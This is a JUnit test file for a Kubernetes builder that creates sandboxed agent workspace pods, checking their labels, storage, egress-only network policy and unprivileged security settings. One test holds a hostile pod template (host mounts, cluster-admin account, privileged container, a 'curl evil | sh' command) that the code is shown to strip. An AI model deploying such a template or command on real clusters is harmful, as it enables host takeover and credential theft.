package dev.belay.runtime.kubernetes;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.fabric8.kubernetes.api.model.Container;
import io.fabric8.kubernetes.api.model.EnvVar;
import io.fabric8.kubernetes.api.model.HasMetadata;
import io.fabric8.kubernetes.api.model.IntOrString;
import io.fabric8.kubernetes.api.model.PersistentVolumeClaim;
import io.fabric8.kubernetes.api.model.Pod;
import io.fabric8.kubernetes.api.model.PodSpec;
import io.fabric8.kubernetes.api.model.Quantity;
import io.fabric8.kubernetes.api.model.networking.v1.NetworkPolicyEgressRule;
import io.fabric8.kubernetes.api.model.networking.v1.NetworkPolicySpec;
import io.fabric8.kubernetes.client.utils.KubernetesSerialization;
import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The objects of a workspace: what the cluster is asked to run, and what a template cannot slip into it. */
class WorkspacePodTest {

    private static final URI HUB = URI.create("http://belay.belay.svc.cluster.local:8750");

    @TempDir
    Path dir;

    private final KubernetesSettings settings = KubernetesSettings.builder(HUB)
            .image("registry.example/belay:0.1.0")
            .build();

    @Test
    void everyObjectIsNamedAndLabelledAfterTheWorkspace() {
        WorkspacePod objects = WorkspacePod.of(settings, "abc123", "belay_agent_token");

        assertThat(objects.objects())
                .extracting(HasMetadata::getKind)
                .containsExactly("Secret", "PersistentVolumeClaim", "NetworkPolicy", "Pod");
        for (HasMetadata object : objects.objects()) {
            assertThat(object.getMetadata().getName()).isEqualTo("belay-ws-abc123");
            assertThat(object.getMetadata().getNamespace()).isNull();
            assertThat(object.getMetadata().getLabels())
                    .containsExactlyInAnyOrderEntriesOf(Map.of(
                            "app.kubernetes.io/managed-by", "belay",
                            "app.kubernetes.io/name", "belay-workspace",
                            "belay.dev/workspace", "abc123"));
        }
        assertThat(objects.secret().getType()).isEqualTo("Opaque");
        assertThat(objects.secret().getData()).containsOnlyKeys("agent-token");
        assertThat(Base64.getDecoder().decode(objects.secret().getData().get("agent-token")))
                .asString(StandardCharsets.UTF_8)
                .isEqualTo("belay_agent_token");
    }

    @Test
    void theVolumeIsTheStorageAskedForAndBelongsToTheImagesUser() {
        PersistentVolumeClaim claim = WorkspacePod.of(
                        KubernetesSettings.builder(HUB)
                                .image("belay")
                                .storage("25Gi")
                                .storageClass("fast-ssd")
                                .build(),
                        "abc123",
                        "t")
                .claim();

        assertThat(claim.getSpec().getAccessModes()).containsExactly("ReadWriteOnce");
        assertThat(claim.getSpec().getResources().getRequests())
                .containsExactly(Map.entry("storage", new Quantity("25Gi")));
        assertThat(claim.getSpec().getStorageClassName()).isEqualTo("fast-ssd");
        assertThat(claim.getSpec().getDataSource()).isNull();
        assertThat(claim.getMetadata().getAnnotations())
                .containsEntry("volume.podman.io/uid", "10001")
                .containsEntry("volume.podman.io/gid", "10001");
        assertThat(WorkspacePod.of(settings, "abc123", "t").claim().getSpec().getStorageClassName())
                .isNull();
        assertThat(WorkspacePod.of(settings, "abc123", "t")
                        .claim()
                        .getSpec()
                        .getResources()
                        .getRequests())
                .containsEntry("storage", new Quantity("10Gi"));
    }

    @Test
    void thePolicyLetsNothingInAndOnlyTheHubDnsAndTheAllowedBlocksOut() {
        NetworkPolicySpec policy = WorkspacePod.of(
                        KubernetesSettings.builder(HUB)
                                .image("belay")
                                .hubSelector(Map.of("app", "belay-hub"))
                                .allowCidr("10.20.0.0/16")
                                .allowCidr("2001:db8::/32")
                                .build(),
                        "abc123",
                        "t")
                .policy()
                .getSpec();

        assertThat(policy.getPodSelector().getMatchLabels()).isEqualTo(Map.of("belay.dev/workspace", "abc123"));
        assertThat(policy.getPolicyTypes()).containsExactly("Ingress", "Egress");
        assertThat(policy.getIngress()).isEmpty();
        List<NetworkPolicyEgressRule> egress = policy.getEgress();
        assertThat(egress).hasSize(4);
        assertThat(egress.get(0).getTo()).singleElement().satisfies(peer -> {
            assertThat(peer.getPodSelector().getMatchLabels()).isEqualTo(Map.of("app", "belay-hub"));
            assertThat(peer.getIpBlock()).isNull();
            assertThat(peer.getNamespaceSelector()).isNull();
        });
        assertThat(egress.get(0).getPorts()).singleElement().satisfies(port -> {
            assertThat(port.getProtocol()).isEqualTo("TCP");
            assertThat(port.getPort()).isEqualTo(new IntOrString(8750));
        });
        assertThat(egress.get(1).getTo()).isEmpty();
        assertThat(egress.get(1).getPorts())
                .extracting(p -> p.getProtocol() + "/" + p.getPort().getIntVal())
                .containsExactly("UDP/53", "TCP/53");
        assertThat(egress.get(2).getTo())
                .singleElement()
                .satisfies(peer -> assertThat(peer.getIpBlock().getCidr()).isEqualTo("10.20.0.0/16"));
        assertThat(egress.get(3).getTo().get(0).getIpBlock().getCidr()).isEqualTo("2001:db8::/32");
    }

    @Test
    void thePodRunsTheAgentAgainstTheHubUnprivileged() {
        Pod pod = WorkspacePod.of(settings, "abc123", "t").pod();
        PodSpec spec = pod.getSpec();

        assertThat(spec.getRestartPolicy()).isEqualTo("Always");
        assertThat(spec.getAutomountServiceAccountToken()).isFalse();
        assertThat(spec.getEnableServiceLinks()).isFalse();
        assertThat(spec.getSecurityContext().getRunAsUser()).isEqualTo(10001L);
        assertThat(spec.getSecurityContext().getRunAsGroup()).isEqualTo(10001L);
        assertThat(spec.getSecurityContext().getFsGroup()).isEqualTo(10001L);
        assertThat(spec.getSecurityContext().getRunAsNonRoot()).isTrue();
        assertThat(spec.getSecurityContext().getSeccompProfile().getType()).isEqualTo("RuntimeDefault");
        assertThat(spec.getVolumes())
                .singleElement()
                .satisfies(
                        volume -> assertThat(volume.getPersistentVolumeClaim().getClaimName())
                                .isEqualTo("belay-ws-abc123"));

        Container agent = spec.getContainers().get(0);
        assertThat(spec.getContainers()).hasSize(1);
        assertThat(agent.getName()).isEqualTo("agent");
        assertThat(agent.getImage()).isEqualTo("registry.example/belay:0.1.0");
        assertThat(agent.getCommand()).isEmpty();
        assertThat(agent.getArgs())
                .containsExactly(
                        "agent",
                        "--server",
                        "ws://belay.belay.svc.cluster.local:8750/agents",
                        "--name",
                        "abc123",
                        "--workspace",
                        "/belay/workspace",
                        "--approve",
                        "auto");
        assertThat(agent.getEnv())
                .extracting(EnvVar::getName)
                .containsExactly("BELAY_AGENT_TOKEN", "BELAY_DATA_DIR", "BELAY_CONFIG_DIR");
        assertThat(agent.getEnv().get(0).getValueFrom().getSecretKeyRef().getName())
                .isEqualTo("belay-ws-abc123");
        assertThat(agent.getEnv().get(0).getValueFrom().getSecretKeyRef().getKey())
                .isEqualTo("agent-token");
        assertThat(agent.getEnv().get(1).getValue()).isEqualTo("/belay/data");
        assertThat(agent.getEnv().get(2).getValue()).isEqualTo("/belay/data/config");
        assertThat(agent.getVolumeMounts()).singleElement().satisfies(mount -> {
            assertThat(mount.getMountPath()).isEqualTo("/belay");
            assertThat(mount.getSubPath()).isNull();
        });
        assertThat(agent.getSecurityContext().getAllowPrivilegeEscalation()).isFalse();
        assertThat(agent.getSecurityContext().getPrivileged()).isFalse();
        assertThat(agent.getSecurityContext().getCapabilities().getDrop()).containsExactly("ALL");
        assertThat(agent.getSecurityContext().getCapabilities().getAdd()).isEmpty();
        assertThat(agent.getPorts()).isEmpty();
    }

    private Pod template(String yaml) throws IOException {
        Path file = dir.resolve("template.yaml");
        Files.writeString(file, yaml);
        return KubernetesSettings.readTemplate(file);
    }

    @Test
    void theTemplateGivesSchedulingImageAndResources() throws IOException {
        Pod template = template("""
                apiVersion: v1
                kind: Pod
                metadata:
                  name: ignored
                spec:
                  nodeSelector:
                    pool: sandboxes
                  tolerations:
                  - key: sandbox
                    operator: Exists
                    effect: NoSchedule
                  affinity:
                    nodeAffinity:
                      requiredDuringSchedulingIgnoredDuringExecution:
                        nodeSelectorTerms:
                        - matchExpressions:
                          - key: kubernetes.io/arch
                            operator: In
                            values: [amd64]
                  runtimeClassName: gvisor
                  priorityClassName: low
                  imagePullSecrets:
                  - name: registry-login
                  containers:
                  - name: whatever
                    image: registry.example/belay:from-template
                    imagePullPolicy: IfNotPresent
                    resources:
                      requests: {cpu: 500m, memory: 1Gi}
                      limits: {cpu: "2", memory: 4Gi}
                """);
        KubernetesSettings fromTemplate =
                KubernetesSettings.builder(HUB).template(template).build();

        PodSpec spec = WorkspacePod.of(fromTemplate, "abc123", "t").pod().getSpec();

        assertThat(spec.getNodeSelector()).isEqualTo(Map.of("pool", "sandboxes"));
        assertThat(spec.getTolerations()).isEqualTo(template.getSpec().getTolerations());
        assertThat(spec.getAffinity())
                .isEqualTo(template.getSpec().getAffinity())
                .isNotNull();
        assertThat(spec.getRuntimeClassName()).isEqualTo("gvisor");
        assertThat(spec.getPriorityClassName()).isEqualTo("low");
        assertThat(spec.getImagePullSecrets())
                .singleElement()
                .satisfies(s -> assertThat(s.getName()).isEqualTo("registry-login"));
        Container agent = spec.getContainers().get(0);
        assertThat(agent.getName()).isEqualTo("agent");
        assertThat(agent.getImage()).isEqualTo("registry.example/belay:from-template");
        assertThat(agent.getImagePullPolicy()).isEqualTo("IfNotPresent");
        assertThat(agent.getResources().getLimits()).containsEntry("memory", new Quantity("4Gi"));
        assertThat(agent.getResources().getRequests()).containsEntry("cpu", new Quantity("500m"));

        KubernetesSettings named = KubernetesSettings.builder(HUB)
                .template(template)
                .image("registry.example/belay:named")
                .build();
        assertThat(WorkspacePod.of(named, "abc123", "t")
                        .pod()
                        .getSpec()
                        .getContainers()
                        .get(0)
                        .getImage())
                .isEqualTo("registry.example/belay:named");
    }

    @Test
    void aTemplateAskingForPrivilegesGetsNoneOfThem() throws IOException {
        Pod template = template("""
                apiVersion: v1
                kind: Pod
                metadata:
                  name: evil
                  namespace: kube-system
                  labels: {belay.dev/workspace: other}
                spec:
                  hostNetwork: true
                  hostPID: true
                  hostIPC: true
                  serviceAccountName: cluster-admin
                  automountServiceAccountToken: true
                  enableServiceLinks: true
                  shareProcessNamespace: true
                  nodeName: control-plane
                  securityContext:
                    runAsUser: 0
                    runAsNonRoot: false
                    seccompProfile: {type: Unconfined}
                  volumes:
                  - name: host
                    hostPath: {path: /}
                  initContainers:
                  - name: init
                    image: alpine
                    command: [sh, -c, "chmod 777 /host"]
                  containers:
                  - name: agent
                    image: registry.example/belay:0.1.0
                    command: [sh, -c, "curl evil | sh"]
                    args: [x]
                    env:
                    - {name: BELAY_AGENT_TOKEN, value: stolen}
                    ports:
                    - {containerPort: 22, hostPort: 22}
                    volumeMounts:
                    - {name: host, mountPath: /host}
                    securityContext:
                      privileged: true
                      allowPrivilegeEscalation: true
                      runAsUser: 0
                      capabilities: {add: [SYS_ADMIN, NET_ADMIN]}
                  - name: sidecar
                    image: alpine
                """);

        WorkspacePod objects = WorkspacePod.of(
                KubernetesSettings.builder(HUB).template(template).build(), "abc123", "t");
        Pod pod = objects.pod();
        PodSpec spec = pod.getSpec();

        assertThat(pod.getMetadata().getName()).isEqualTo("belay-ws-abc123");
        assertThat(pod.getMetadata().getNamespace()).isNull();
        assertThat(pod.getMetadata().getLabels()).containsEntry("belay.dev/workspace", "abc123");
        assertThat(spec.getHostNetwork()).isNull();
        assertThat(spec.getHostPID()).isNull();
        assertThat(spec.getHostIPC()).isNull();
        assertThat(spec.getServiceAccountName()).isNull();
        assertThat(spec.getServiceAccount()).isNull();
        assertThat(spec.getAutomountServiceAccountToken()).isFalse();
        assertThat(spec.getEnableServiceLinks()).isFalse();
        assertThat(spec.getShareProcessNamespace()).isNull();
        assertThat(spec.getNodeName()).isNull();
        assertThat(spec.getInitContainers()).isEmpty();
        assertThat(spec.getVolumes())
                .singleElement()
                .satisfies(v -> assertThat(v.getHostPath()).isNull());
        assertThat(spec.getSecurityContext().getRunAsUser()).isEqualTo(10001L);
        assertThat(spec.getSecurityContext().getRunAsNonRoot()).isTrue();
        assertThat(spec.getSecurityContext().getSeccompProfile().getType()).isEqualTo("RuntimeDefault");
        assertThat(spec.getContainers()).singleElement().satisfies(agent -> {
            assertThat(agent.getCommand()).isEmpty();
            assertThat(agent.getArgs()).first().isEqualTo("agent");
            assertThat(agent.getEnv()).noneMatch(e -> "stolen".equals(e.getValue()));
            assertThat(agent.getPorts()).isEmpty();
            assertThat(agent.getVolumeMounts())
                    .extracting(m -> m.getMountPath())
                    .containsExactly("/belay");
            assertThat(agent.getSecurityContext().getPrivileged()).isFalse();
            assertThat(agent.getSecurityContext().getAllowPrivilegeEscalation()).isFalse();
            assertThat(agent.getSecurityContext().getRunAsUser()).isNull();
            assertThat(agent.getSecurityContext().getCapabilities().getAdd()).isEmpty();
            assertThat(agent.getSecurityContext().getCapabilities().getDrop()).containsExactly("ALL");
        });
        String yaml = objects.yaml();
        assertThat(yaml).doesNotContain("hostPath", "SYS_ADMIN", "cluster-admin", "stolen", "kube-system", "sidecar");
    }

    @Test
    void theYamlIsTheObjectsOneDocumentEach() {
        WorkspacePod objects = WorkspacePod.of(settings, "abc123", "belay_agent_token");

        String yaml = objects.yaml();

        assertThat(yaml.lines().filter("---"::equals)).hasSize(4);
        assertThat(yaml).startsWith("---\n").endsWith("\n").doesNotContain("\n\n");
        List<HasMetadata> parsed = new KubernetesSerialization().unmarshal(yaml);
        assertThat(parsed).isEqualTo(objects.objects());
    }

    @Test
    void aWorkspaceFromASnapshotHasItAsItsVolumesSource() {
        WorkspacePod objects = WorkspacePod.of(settings, "abc123", "t").fromSnapshot(settings, "snap12");

        assertThat(objects.claim().getSpec().getDataSource().getApiGroup()).isEqualTo("snapshot.storage.k8s.io");
        assertThat(objects.claim().getSpec().getDataSource().getKind()).isEqualTo("VolumeSnapshot");
        assertThat(objects.claim().getSpec().getDataSource().getName()).isEqualTo("belay-snap-snap12");
        assertThat(objects.claim().getMetadata().getName()).isEqualTo("belay-ws-abc123");
        assertThat(objects.pod())
                .isEqualTo(WorkspacePod.of(settings, "abc123", "t").pod());
    }

    @Test
    void anIdOrTokenThatCannotBeUsedIsRefused() {
        for (String id : List.of("", "Ab", "a_b", "-a", "a-", "a.b", "x".repeat(55))) {
            assertThatThrownBy(() -> WorkspacePod.of(settings, id, "t"))
                    .isInstanceOf(IllegalArgumentException.class)
                    .hasMessageContaining("'" + id + "' cannot name Kubernetes objects");
        }
        assertThatThrownBy(() -> WorkspacePod.of(settings, null, "t")).isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> WorkspacePod.of(settings, "abc", " "))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessage("no agent token for workspace abc");
        assertThatThrownBy(() -> WorkspacePod.of(settings, "abc", "t").fromSnapshot(settings, "../x"))
                .isInstanceOf(IllegalArgumentException.class);
    }
}
